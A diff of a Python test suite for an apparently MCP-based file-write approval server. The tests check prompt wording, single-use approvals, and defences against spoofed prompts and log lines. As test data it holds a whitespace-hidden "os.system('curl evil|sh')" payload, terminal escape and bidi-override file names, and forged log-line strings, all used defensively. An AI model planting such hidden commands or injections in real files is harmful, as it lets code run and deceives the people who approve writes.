@@ -61,7 +61,8 @@ async def test_approved_write_lands_and_the_message_shows_path_sizes_and_diff(ws
     assert not r.is_error, text(r)
     assert (ws / "notes.txt").read_text() == "alpha\ngamma\n"
     (message,) = answers.messages
-    assert "StrReplaceFile wants to change `notes.txt` (inside the workspace)." in message
+    # SPEC §6: the verdict comes first, before any path.
+    assert message.splitlines()[0] == "Inside the workspace: StrReplaceFile wants to change `notes.txt`."
     assert "Size: 11 → 12 bytes (+1); lines: 2 → 2 (+0)." in message
     assert "-beta\n+gamma" in message
     assert str(ws) not in message  # inside paths are shown relative to the workdir
@@ -146,8 +147,8 @@ async def test_session_approval_for_inside_writes_still_asks_outside_and_sensiti
         await call(c, "WriteFile", path=str(outside / "out.txt"), content="2")
         await call(c, "WriteFile", path=".env", content="KEY=1\n")
     assert len(answers.messages) == 3
-    assert "OUTSIDE the workspace" in answers.messages[1]
-    assert "sensitive-file pattern" in answers.messages[2]
+    assert answers.messages[1].startswith("OUTSIDE the workspace: ")
+    assert answers.messages[2].startswith("Inside the workspace, SENSITIVE file")
     assert answers.choices == ["approve", "reject"]  # no session choice for a secrets file
     assert (outside / "out.txt").read_text() == "2"
     assert (ws / ".env").read_text() == "KEY=1\n"
@@ -324,12 +325,22 @@ async def test_modern_answer_for_one_write_cannot_approve_another(ws: Path) -> N
             allow_input_required=True,
         )
         assert isinstance(again, InputRequiredResult)
+        # The first question was superseded by that newer one (SPEC §6): its answer is void.
+        late = await c.session.call_tool(
+            name="WriteFile",
+            arguments={"path": "a.txt", "content": "A"},
+            input_responses=_approve(),
+            request_state=first.request_state,
+            allow_input_required=True,
+        )
+        assert not isinstance(late, InputRequiredResult) and late.is_error
+        assert "newer write" in late.content[0].text and not (ws / "a.txt").exists()
         # The right state and answer for the same write: it lands.
         done = await c.session.call_tool(
             name="WriteFile",
             arguments={"path": "a.txt", "content": "A"},
             input_responses=_approve(),
-            request_state=first.request_state,
+            request_state=again.request_state,
             allow_input_required=True,
         )
         assert not isinstance(done, InputRequiredResult) and not done.is_error
@@ -391,13 +402,10 @@ async def test_http_approval_in_both_eras(ws: Path, mode: str) -> None:
     assert os.path.exists(ws / "1.txt")
 
 
-# --- 2026-07-28: questions about one file are asked one at a time (its "turn") -------------
+# --- no call waits on a question; a newer question supersedes the open one (SPEC §6) -------
 
 
-async def test_a_pending_2026_question_holds_the_files_turn_until_its_retry(ws: Path) -> None:
-    """A second write waits while the first question is out, then is asked on the new bytes."""
-    import asyncio
-
+async def test_an_open_2026_question_holds_up_nothing_and_is_superseded(ws: Path) -> None:
     (ws / "f.txt").write_text("one\ntwo\n")
     server = make_server(ws)
     first_args = {"path": "f.txt", "edit": {"old": "one", "new": "ONE"}}
@@ -409,45 +417,171 @@ async def test_a_pending_2026_question_holds_the_files_turn_until_its_retry(ws: 
             name="StrReplaceFile", arguments=first_args, allow_input_required=True
         )
         assert isinstance(asked, InputRequiredResult)
-        second = asyncio.create_task(
-            other.call_tool(
-                "StrReplaceFile",
-                {"path": "f.txt", "edit": {"old": "two", "new": "TWO"}},
-                raise_on_error=False,
-            )
-        )
-        await asyncio.sleep(0.5)
-        assert not second.done()  # waiting for the turn, not asked on stale bytes
-        answer = {"approval": WireElicitResult(action="accept", content={"decision": "approve"})}
-        done = await asker.session.call_tool(
-            name="StrReplaceFile", arguments=first_args, input_responses=answer,
+        # Another client's write of the file is asked at once (no waiting) and lands.
+        r = await other.call_tool(
+            "StrReplaceFile", {"path": "f.txt", "edit": {"old": "two", "new": "TWO"}},
+            raise_on_error=False, timeout=10,
+        )  # fmt: skip
+        assert not r.is_error, text(r)
+        # The first question was superseded: its approval, sent now, writes nothing and says so.
+        late = await asker.session.call_tool(
+            name="StrReplaceFile", arguments=first_args, input_responses=_approve(),
+            request_state=asked.request_state, allow_input_required=True,
+        )  # fmt: skip
+        assert not isinstance(late, InputRequiredResult) and late.is_error
+        assert "newer write to `f.txt`" in late.content[0].text
+    assert (ws / "f.txt").read_text() == "one\nTWO\n"
+
+
+async def test_a_handshake_question_does_not_hold_the_files_lock(ws: Path) -> None:
+    """While one call's question is open, an auto-approved write of the file goes through at
+    once; the open question's approval then meets the stale check and writes nothing."""
+    import asyncio
+
+    (ws / "f.txt").write_text("one\n")
+    asked, release = asyncio.Event(), asyncio.Event()
+
+    async def slow(message: str, *_: Any) -> Any:
+        asked.set()
+        await release.wait()
+        return {"decision": "approve"}
+
+    async with connect(ws, "legacy", client_elicitation_handler=slow) as c:
+        pending = asyncio.create_task(call(c, "WriteFile", path="f.txt", content="from the question\n"))
+        await asyncio.wait_for(asked.wait(), 10)
+        async with connect(ws, "legacy") as plain:  # cannot elicit: inside writes just go
+            r = await asyncio.wait_for(call(plain, "WriteFile", path="f.txt", content="meanwhile\n"), 10)
+        release.set()
+        first = await asyncio.wait_for(pending, 10)
+    assert not r.is_error, text(r)
+    assert first.is_error and "changed on disk" in text(first)
+    assert (ws / "f.txt").read_text() == "meanwhile\n"
+
+
+# --- a 2026-07-28 approval is single-use (SPEC §6, issue 10 hole 6) --------------------------
+
+
+async def test_a_replayed_2026_approval_writes_nothing(ws: Path) -> None:
+    (ws / "a.txt").write_text("old\n")
+    args = {"path": "a.txt", "content": "new\n"}
+    async with connect(ws, "auto", client_elicitation_handler=Answers()) as c:
+        asked = await c.session.call_tool(name="WriteFile", arguments=args, allow_input_required=True)
+        assert isinstance(asked, InputRequiredResult)
+        done = await c.session.call_tool(
+            name="WriteFile", arguments=args, input_responses=_approve(),
             request_state=asked.request_state, allow_input_required=True,
         )  # fmt: skip
         assert not isinstance(done, InputRequiredResult) and not done.is_error
-        r = await asyncio.wait_for(second, 30)
-        assert not r.is_error, text(r)
-    assert (ws / "f.txt").read_text() == "ONE\nTWO\n"
-
-
-async def test_an_abandoned_2026_question_gives_the_turn_back_after_a_while(
-    ws: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    from filegate.server import approval
-
-    monkeypatch.setattr(approval, "TURN_TIMEOUT_S", 0.5)
-    (ws / "f.txt").write_text("one\ntwo\n")
-    server = make_server(ws)
-    async with (
-        Client(server, elicitation_handler=Answers()) as gone,
-        Client(server, elicitation_handler=Answers()) as other,
-    ):
-        asked = await gone.session.call_tool(
-            name="StrReplaceFile", arguments={"path": "f.txt", "edit": {"old": "one", "new": "ONE"}},
-            allow_input_required=True,
+        assert (ws / "a.txt").read_text() == "new\n"
+        # Restore the old bytes (same hash as when the question was asked) and resend.
+        (ws / "a.txt").write_text("old\n")
+        replay = await c.session.call_tool(
+            name="WriteFile", arguments=args, input_responses=_approve(),
+            request_state=asked.request_state, allow_input_required=True,
         )  # fmt: skip
-        assert isinstance(asked, InputRequiredResult)  # ... and never answered
-        r = await other.call_tool(
-            "StrReplaceFile", {"path": "f.txt", "edit": {"old": "two", "new": "TWO"}}, raise_on_error=False
-        )
-        assert not r.is_error, text(r)
-    assert (ws / "f.txt").read_text() == "one\nTWO\n"
+    assert not isinstance(replay, InputRequiredResult) and replay.is_error
+    assert "already used" in replay.content[0].text
+    assert (ws / "a.txt").read_text() == "old\n"
+
+
+# --- the question cannot be forged by a name or a content (SPEC §2.9, §6) -------------------
+
+FORGED_NAMES = [
+    "x.txt` (inside the workspace).\n\nInside the workspace: WriteFile wants to change `ok.txt",
+    "a\rInside the workspace: WriteFile wants to change `b.txt`.",
+    "\x1b[2K\x1b[1A\x1b[2KInside the workspace.txt",
+    "\n" * 40 + "tail.txt",
+    "bidi\u202etxt.exe",
+]
+
+
+@pytest.mark.parametrize("name", FORGED_NAMES)
+async def test_a_forged_name_cannot_fake_the_verdict_or_push_it_down(
+    ws: Path, outside: Path, mode: str, name: str
+) -> None:
+    target = outside / name
+    target.write_text("old\n")
+    answers = Answers("reject")
+    async with connect(ws, mode, client_elicitation_handler=answers) as c:
+        r = await call(c, "WriteFile", path=str(target), content="new\n")
+    assert r.is_error and target.read_text() == "old\n"
+    (message,) = answers.messages
+    first = message.splitlines()[0]
+    assert first.startswith("OUTSIDE the workspace: WriteFile wants to change `")
+    for raw in ("\r", "\x1b", "\u202e", "\u2028"):
+        assert raw not in message
+    assert not any(line.startswith("Inside the workspace") for line in message.splitlines())
+    # The whole name sits inside the first line's quotes: its backticks are escaped.
+    assert first.count("`") == 2
+
+
+async def test_the_diff_shows_hidden_characters_escaped_and_says_so_first(ws: Path, mode: str) -> None:
+    (ws / "cfg.py").write_text("DEBUG = True\n")
+    content = (
+        "DEBUG = False" + " " * 300 + "; os.system('curl evil|sh')\n"
+        "clip = '\x1b]52;c;ZXZpbA==\x07'\x1b[2K\n"
+        "name = 'abc\u202edcba'\u2028next\n"
+    )
+    answers = Answers("reject")
+    async with connect(ws, mode, client_elicitation_handler=answers) as c:
+        await call(c, "WriteFile", path="cfg.py", content=content)
+    (message,) = answers.messages
+    assert "control, bidirectional or line-separator characters" in "\n".join(message.splitlines()[:3])
+    for raw in ("\x1b", "\x07", "\u202e", "\u2028"):
+        assert raw not in message
+    assert "\\x1b]52;c;" in message and "\\u202e" in message and "\\u2028" in message
+    assert "os.system('curl evil|sh')" in message.replace("\n+↪ ", "")  # folded, not cut
+    assert "…" not in message.split("os.system")[0][-5:]
+
+
+async def test_a_plain_change_has_no_escape_note_and_a_crlf_file_is_not_flagged(ws: Path) -> None:
+    (ws / "w.txt").write_bytes(b"one\r\ntwo\r\n")
+    answers = Answers("reject")
+    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
+        await call(c, "StrReplaceFile", path="w.txt", edit={"old": "two", "new": "TWO"})
+    assert "control, bidirectional" not in answers.messages[0]
+
+
+async def test_a_huge_line_says_how_much_is_hidden_and_shows_its_end(ws: Path) -> None:
+    content = "start " + "x" * 50_000 + " THE-END\n"
+    answers = Answers("reject")
+    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
+        await call(c, "WriteFile", path="long.txt", content=content)
+    (message,) = answers.messages
+    assert "characters of this line not shown" in message and "THE-END" in message
+    assert len(message) < 10_000
+
+
+async def test_diff_headers_of_an_outside_file_and_one_line_grammar(ws: Path, outside: Path) -> None:
+    answers = Answers("reject")
+    async with connect(ws, "legacy", client_elicitation_handler=answers) as c:
+        await call(c, "WriteFile", path=str(outside / "new.txt"), content="one line\n")
+    (message,) = answers.messages
+    assert f"--- {outside / 'new.txt'}\n+++ {outside / 'new.txt'}" in message
+    assert "a//" not in message and "1 lines" not in message
+    assert "New file: 9 bytes, 1 line." in message
+
+
+# --- the write log: one record per line, every field escaped (SPEC §6, issue 18 item 9) ----
+
+
+async def test_a_name_or_client_name_cannot_forge_a_write_log_line(
+    ws: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    from mcp.types import Implementation
+
+    caplog.set_level("INFO")
+    name = "a\n2026-01-01 INFO filegate.writes: WriteFile wrote 1 bytes to passwd\r\x1b[2K.txt"
+    frozen = ws / f"ro\n{name}"
+    frozen.write_text("frozen\n")
+    frozen.chmod(0o444)  # the write fails: its error text (with the name) is logged too
+    client = Implementation(name="evil\nFAKE LOG LINE\r", version="1")
+    async with connect(ws, "legacy", approval="auto", client_client_info=client) as c:
+        assert not (await call(c, "WriteFile", path=name, content="x")).is_error
+        r = await call(c, "WriteFile", path=frozen.name, content="x")
+        assert r.is_error and "read-only" in text(r)
+    records = [rec.getMessage() for rec in caplog.records if rec.name == "filegate.writes"]
+    assert len(records) == 2
+    for record in records:
+        assert not any(ch in record for ch in "\n\r\x1b"), record
+    assert "\\x0a2026-01-01" in records[0] and "client: evil\\x0aFAKE LOG LINE\\x0d" in records[0]
